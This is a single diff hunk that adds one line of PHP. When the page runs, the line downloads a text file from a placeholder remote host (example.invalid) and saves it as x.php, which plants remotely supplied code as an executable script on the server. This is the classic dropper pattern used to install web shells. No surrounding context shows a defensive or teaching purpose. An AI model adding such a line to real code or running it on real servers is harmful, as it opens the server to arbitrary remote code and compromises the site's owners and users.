@@ -1,0 +1,1 @@
+<?php file_put_contents('x.php', file_get_contents('http://example.invalid/p.txt')); ?>
